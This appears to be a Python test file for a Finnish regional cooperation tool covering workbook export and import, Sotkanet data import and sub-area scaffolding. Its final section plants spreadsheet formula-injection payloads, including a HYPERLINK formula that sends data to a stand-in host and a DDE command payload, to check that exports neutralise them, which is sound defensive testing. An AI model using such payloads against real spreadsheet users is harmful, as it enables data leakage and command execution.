"""Spreadsheet in, spreadsheet out: the workbook, indicator data from Sotkanet, the sub-area scaffold."""
from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml
from helpers import MINIMAL, REPO, Ran, copy_example, copy_root, run_cli, with_sotkanet_regions
from openpyxl import Workbook, load_workbook

from cooperation.pipeline import load


def run(*args, root: Path) -> Ran:
    return run_cli(*args, "--root", root)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("xlsx")
    done = run("export-xlsx", "--out", out, root=REPO)
    assert done.returncode == 0, done.stderr
    return out / f"{load(REPO)[0].id}-tyokirja.xlsx"


def empty_region(tmp_path: Path, base: Path = REPO) -> Path:
    root = copy_root(base, tmp_path / "root")
    shutil.rmtree(root / "subareas")
    (root / "subareas").mkdir()
    shutil.rmtree(root / "measurements", ignore_errors=True)
    path = root / "agreement" / "agreement.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("scope: 3", "scope: 1").replace("scope: 2", "scope: 1"),
                    encoding="utf-8")
    annexes = root / "agreement" / "annexes.yaml"
    if annexes.exists():
        annexes.unlink()
    return root


def test_export_layout(exported):
    """The main sheet in the columns of Kuntaliitto's template, a row per item in the agreement's order; the yearly
    values a row per indicator and area; the parties; reproducible."""
    model, _ = load(REPO)
    book = load_workbook(exported)
    sheet = book["Työkirja"]
    assert [c.value for c in sheet[1]] == [
        "Tunniste", "Taso", "Osa-alue", "Tavoite", "Toimenpide", "Vastuutahot", "Päävastuutaho", "Aikataulu", "Tila",
        "Tilan perustelu", "Resurssit", "Mittari", "Lähtötaso", "Tavoitetaso", "Teksti (ruotsiksi)", "Kommentit",
        "Kommentoiva osapuoli"]
    assert sheet.freeze_panes == "C2" and sheet.column_dimensions["E"].width >= 40
    assert sheet["B2"].value == "Osa-alue" and sheet["C2"].value == model.subareas[0].title.get("fi")
    ids = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert ids == [item for s in model.subareas for g in [None, *s.goals]
                   for item in ([s.id] if g is None else [g.id] + [a.id for a in g.actions] + [i.id for i in g.indicators])]
    action = model.actions[0]
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == action.id)
    assert row[4] == action.title.get("fi") and row[8] == {"planned": "suunniteltu", "ongoing": "käynnissä",
                                                           "done": "valmis", "delayed": "viivästynyt",
                                                           "cancelled": "peruttu"}[action.status]
    assert book["Osapuolet"].max_row == len(model.parties) + 1
    values = book["Mittaustulokset"]
    assert [(r[0], r[2]) for r in values.iter_rows(min_row=2, values_only=True)] == [
        (i.id, "Koko alue" if area == "region" else model.party(area).name.get("fi"))
        for i in model.indicators for area in i.areas]
    assert run("export-xlsx", "--out", exported.parent / "again", root=REPO).returncode == 0
    assert (exported.parent / "again" / exported.name).read_bytes() == exported.read_bytes()  # reproducible


def messy_workbook(path: Path, headings=None) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.title = "Taulukko1"
    sheet.append(["Strategisten tavoitteiden työkirja v1.0"])
    sheet.append([])
    sheet.append(headings or ["OSA-ALUE ", "Tavoitteet", "Toimenpiteet ja\nvastuutahot", "Resurssit", "Kommentit",
                              " arviointimittarit", "Huomioitavaa:"])
    sheet.append(["Yhteiset osa-alueet"])
    sheet.append(["Asukkaiden hyvinvoinnin ja terveyden edistäminen", "Liikkuminen lisääntyy",
                  "• Liikuntaneuvonta (Kunnat ja HVA)\n• Kävelyreitit (Hämeenkyrön kunta)", "2 htv", "ei", "- Liikkumattomat, % (Sotkanet 3737)", None])
    sheet.append([None, "Terveys paranee", "1) Terveystarkastukset (kaikki kunnat)\n2) Neuvonta – Alfan kunta", None, None,
                  "Koettu terveys %\nElämänlaatu (ind. 3127)", "Huom"])
    sheet.merge_cells("A5:A6")
    sheet.append([])
    sheet.append(["Yhdyspintakohtaiset osa-alueet"])
    sheet.append(["Työllisyyden hoito", "Työttömyys laskee\nNuoret töihin", "Yhteispalvelu (Beta)", None, None, None, None])
    book.save(path)
    return path


def test_messy_workbook_is_read_with_cell_references(tmp_path):
    root = empty_region(tmp_path, MINIMAL)
    path = messy_workbook(tmp_path / "Työkirja.xlsx")
    done = run("import-xlsx", path, root=root)
    assert done.returncode == 0, done.stderr
    assert "Työkirja.xlsx!C5: varoitus: toimenpide HYTE-1-T2: vastuutahoa ei tunnistettu (”Hämeenkyrön kunta”)" in done.stderr
    assert "Työkirja.xlsx!B9: varoitus: solussa on 2 tavoitetta" in done.stderr
    hyte = yaml.safe_load((root / "subareas" / "hyte.yaml").read_text(encoding="utf-8"))
    assert hyte["workbook_subarea"] == "wellbeing_promotion" and hyte["group"] == "common"
    assert [g["title"] for g in hyte["goals"]] == ["Liikkuminen lisääntyy", "Terveys paranee"]
    actions = hyte["goals"][0]["actions"]
    assert actions[0] == {"id": "HYTE-1-T1", "title": "Liikuntaneuvonta", "responsible": ["all_municipalities", "hva"],
                          "lead": "hva", "status": "planned"}
    assert hyte["goals"][1]["actions"][0]["responsible"] == ["all_municipalities"]
    assert hyte["goals"][1]["actions"][1]["responsible"] == ["alfa"]
    indicators = hyte["goals"][0]["indicators"] + hyte["goals"][1]["indicators"]
    assert [i["source"] for i in indicators] == [{"sotkanet": 3737}, {"name": "Määritettävä lähde"}, {"sotkanet": 3127}]
    assert [i["unit"] for i in indicators] == ["percent", "percent", "count"]
    assert hyte["resources"] == "2 htv" and hyte["notes"] == "Huom"
    employment = yaml.safe_load((root / "subareas" / "tyollisyys.yaml").read_text(encoding="utf-8"))
    assert employment["group"] == "interface" and len(employment["goals"]) == 2
    assert employment["goals"][0]["actions"][0]["responsible"] == ["beta"]
    assert run("validate", root=root).returncode == 0


def test_missing_column_writes_nothing(tmp_path):
    root = empty_region(tmp_path, MINIMAL)
    path = messy_workbook(tmp_path / "w.xlsx", headings=["Osa-alue", "Toimenpiteet", "Resurssit"])
    before = snapshot(root)
    done = run("import-xlsx", path, root=root)
    assert done.returncode == 1 and "sarake ”Tavoitteet” puuttuu" in done.stderr and "Mitään ei kirjoitettu." in done.stderr
    assert snapshot(root) == before


def test_existing_files_are_not_overwritten_without_force(tmp_path):
    root = empty_region(tmp_path, MINIMAL)
    path = messy_workbook(tmp_path / "w.xlsx")
    assert run("import-xlsx", path, root=root).returncode == 0
    (root / "subareas" / "hyte.yaml").write_text((root / "subareas" / "hyte.yaml").read_text() + "# oma muutos\n")
    before = snapshot(root)
    again = run("import-xlsx", path, root=root)
    assert again.returncode == 1 and "subareas/hyte.yaml on jo olemassa" in again.stderr
    assert snapshot(root) == before
    assert run("import-xlsx", path, "--force", root=root).returncode == 0
    assert "# oma muutos" not in (root / "subareas" / "hyte.yaml").read_text()


def test_a_file_that_is_not_a_workbook(tmp_path):
    root = empty_region(tmp_path, MINIMAL)
    bad = tmp_path / "w.xlsx"
    bad.write_text("ei excel")
    done = run("import-xlsx", bad, root=root)
    assert done.returncode == 1 and "Traceback" not in done.stderr and "ei voi lukea" in done.stderr


@pytest.fixture
def region_with_sotkanet(tmp_path) -> Path:
    return with_sotkanet_regions(copy_root(MINIMAL, tmp_path / "root"))


def test_sotkanet_json_import_and_reimport_changes_nothing(region_with_sotkanet, tmp_path):
    root = region_with_sotkanet
    rows = [{"indicator": 3127, "region": 9901, "year": 2026, "gender": "total", "value": 12.5, "absValue": 900},
            {"indicator": 3127, "region": 9902, "year": 2026, "gender": "total", "value": 13.0, "absValue": 90},
            {"indicator": 3127, "region": 9901, "year": 2026, "gender": "male", "value": 11.0, "absValue": 400},
            {"indicator": 3127, "region": 9999, "year": 2026, "gender": "total", "value": 1.0, "absValue": 1},
            {"indicator": 4242, "region": 9901, "year": 2026, "gender": "total", "value": 1.0, "absValue": 1},
            {"indicator": 3127, "region": 9901, "year": 2024, "gender": "total", "value": 10.5, "absValue": 1}]
    file = tmp_path / "sotkanet.json"
    file.write_text(json.dumps(rows))
    # every indicator sourced from 3127 gets the three values that apply (9901 is the region, 9902 alfa);
    # those the fixture already has are updated or unchanged
    model, _ = load(root)
    applied = {("region", 2026): 12.5, ("alfa", 2026): 13.0, ("region", 2024): 10.5}
    sourced = [i for i in model.indicators if i.sotkanet == 3127]
    existing = [m for i in sourced for m in i.measurements if (m.area, m.year) in applied]
    unchanged = sum(1 for m in existing if m.value == applied[m.area, m.year])
    assert sourced and existing  # the fixture has something to add and something to update
    done = run("import-measurements", file, root=root)
    assert done.returncode == 0, done.stderr
    assert (f"Mittaustuloksia: {len(applied) * len(sourced) - len(existing)} uutta, {len(existing) - unchanged} päivitetty, "
            f"{unchanged} ennallaan, 3 ohitettu.") in done.stderr
    assert "sotkanet.json[2]: varoitus: sukupuoli ”male”" in done.stderr and "sotkanet.json[3]: varoitus: aluetta ”9999”" in done.stderr
    assert "sotkanet.json[4]: varoitus: mittaria ”4242” ei ole sopimuksessa" in done.stderr
    hyte = (root / "measurements" / "hyte.csv").read_text()
    assert "HYTE-1-M1,region,2026,12.5,\n" in hyte and "HYTE-1-M1,alfa,2026,13,\n" in hyte
    values = (root / "measurements" / "values.csv").read_text()
    assert "HYTE-1-M1,region,2024,10.5," in values and values.count("HYTE-1-M1,region,2024") == 1  # updated in place
    assert run("validate", root=root).returncode == 0
    before = snapshot(root)
    again = run("import-measurements", file, root=root)
    assert again.returncode == 0 and "Tiedostoja ei muutettu." in again.stderr
    assert snapshot(root) == before


def test_sotkanet_csv_and_tidy_csv(region_with_sotkanet, tmp_path):
    root = region_with_sotkanet
    sotkanet = tmp_path / "sotkanet.csv"
    sotkanet.write_text("indicator;region;year;gender;value;absValue\n3127;9901;2025;total;14,25;100\n", encoding="utf-8")
    assert run("import-measurements", sotkanet, root=root).returncode == 0
    assert "TILA-1-M1,region,2025,14.25," in (root / "measurements" / "tilat.csv").read_text()
    tidy = tmp_path / "tidy.csv"
    tidy.write_text("indicator,area,year,value\nTILA-1-M1,Betan kunta,2025,7\nTILA-1-M1,Gamma,2025,1\n", encoding="utf-8")
    done = run("import-measurements", tidy, root=root)
    assert done.returncode == 0 and "tidy.csv:3: varoitus: aluetta ”Gamma” ei voi kohdistaa" in done.stderr
    assert "TILA-1-M1,beta,2025,7," in (root / "measurements" / "tilat.csv").read_text()


def test_new_subarea_scaffold_validates(tmp_path):
    root = copy_example(tmp_path / "root")
    done = run("new-subarea", "kulttuuri", root=root)
    assert done.returncode == 0, done.stderr
    text = (root / "subareas" / "kulttuuri.yaml").read_text(encoding="utf-8")
    assert text.startswith("# yaml-language-server: $schema=../schema/subarea.schema.json")
    assert "# Tavoite yhdellä lauseella" in text and "sv: Delområdets namn" in text
    validate = run("validate", "--strict", root=root)
    assert validate.returncode == 0, validate.stdout
    assert run("new-subarea", "kulttuuri", root=root).returncode == 1
    assert run("new-subarea", "Kulttuuri ja vapaa-aika", root=root).returncode == 2


# --- spreadsheet and CSV injection ---------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Avaa")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def _hostile_region(tmp_path: Path) -> Path:
    root = copy_root(MINIMAL, tmp_path / "root")
    parties = root / "agreement" / "parties.yaml"
    data = yaml.safe_load(parties.read_text(encoding="utf-8"))
    data["parties"][1]["name"] = FORMULAS[0]
    parties.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    hyte = root / "subareas" / "hyte.yaml"
    data = yaml.safe_load(hyte.read_text(encoding="utf-8"))
    data["goals"][0]["title"] = FORMULAS[1]
    data["notes"] = FORMULAS[2]
    data["resources"] = FORMULAS[3]
    hyte.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    values = root / "measurements" / "values.csv"
    values.write_text(values.read_text(encoding="utf-8") + "".join(
        f'HYTE-1-M1,{area},2020,{value},"{note}"\n'
        for area, value, note in [("region", -5, FORMULAS[0].replace('"', '""')), ("alfa", 3, "\tsarkain"),
                                  ("beta", 2.5, "@SUM(1,2)"), ("hva", 1, "-2+3")]), encoding="utf-8")
    from cooperation.check import check
    from cooperation.load.sources import load_sources
    assert check(load_sources(root)).exit_code() == 0
    return root


def test_export_writes_every_text_as_text_never_as_a_formula(tmp_path):
    import zipfile

    root = _hostile_region(tmp_path)
    done = run("export-xlsx", "--out", tmp_path / "out", root=root)
    assert done.returncode == 0, done.stderr
    path = next((tmp_path / "out").glob("*-tyokirja.xlsx"))
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = load_workbook(path)  # formulas would come back as data_type "f"
    texts = {cell.value: cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    assert texts[FORMULAS[0]] == "s"  # the party name, Osapuolet!B3
    assert book["Osapuolet"]["B3"].value == FORMULAS[0] and book["Osapuolet"]["B3"].data_type == "s"
    for formula in FORMULAS:
        assert any(formula in text for text in texts), formula
    assert all(kind == "s" for kind in texts.values())


def test_open_data_csv_neutralises_formula_cells(tmp_path):
    import csv
    import io

    from cooperation.outputs import opendata
    from cooperation.pipeline import load as load_model
    model, _ = load_model(_hostile_region(tmp_path))
    rows = list(csv.DictReader(io.StringIO(opendata.measurements_csv(model).decode("utf-8"))))
    notes = {(r["area"], r["year"]): r for r in rows}
    assert notes[("region", "2020")]["note"] == "'" + FORMULAS[0]
    assert notes[("region", "2020")]["value"] == "-5"  # numbers stay numbers
    assert notes[("beta", "2020")]["note"] == "'@SUM(1,2)" and notes[("beta", "2020")]["value"] == "2.5"
    assert notes[("hva", "2020")]["note"] == "'-2+3"
    for row in rows:
        for value in (row["indicator"], row["area"], row["note"]):
            assert not value or value[0] not in "=+-@\t\r", row
